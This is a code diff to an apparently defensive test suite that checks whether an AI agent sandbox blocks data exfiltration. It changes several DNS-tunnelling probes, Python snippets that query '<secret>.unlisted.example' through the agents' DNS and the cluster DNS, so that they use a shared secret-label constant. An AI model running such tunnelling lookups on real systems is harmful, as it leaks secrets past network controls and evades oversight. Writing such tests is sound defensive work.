@@ -1,4 +1,4 @@
-import type { Attempt } from "../attempt.ts";
+import { type Attempt, SECRET_LABEL } from "../attempt.ts";
 
 const ownDns = (id: string, title: string, name: string): Attempt => ({
   id,
@@ -24,7 +24,8 @@ export const names: readonly Attempt[] = [
     title: "a look-up that carries data, at the agents' DNS",
     expected: "blocked",
     rings: ["dns"],
-    python: ({ dnsAddress }) => `return resolve_udp("${dnsAddress}", "c2VjcmV0.unlisted.example")`,
+    python: ({ dnsAddress }) =>
+      `return resolve_udp("${dnsAddress}", "${SECRET_LABEL}.unlisted.example")`,
   },
   {
     id: "dns.tunnel-cluster",
@@ -32,7 +33,7 @@ export const names: readonly Attempt[] = [
     expected: "blocked",
     rings: ["policy"],
     python: ({ clusterDns }) =>
-      `udp("${clusterDns}", 53, question("c2VjcmV0.unlisted.example")); return "answered"`,
+      `udp("${clusterDns}", 53, question("${SECRET_LABEL}.unlisted.example")); return "answered"`,
   },
   {
     id: "dns.tunnel-cluster-tcp",
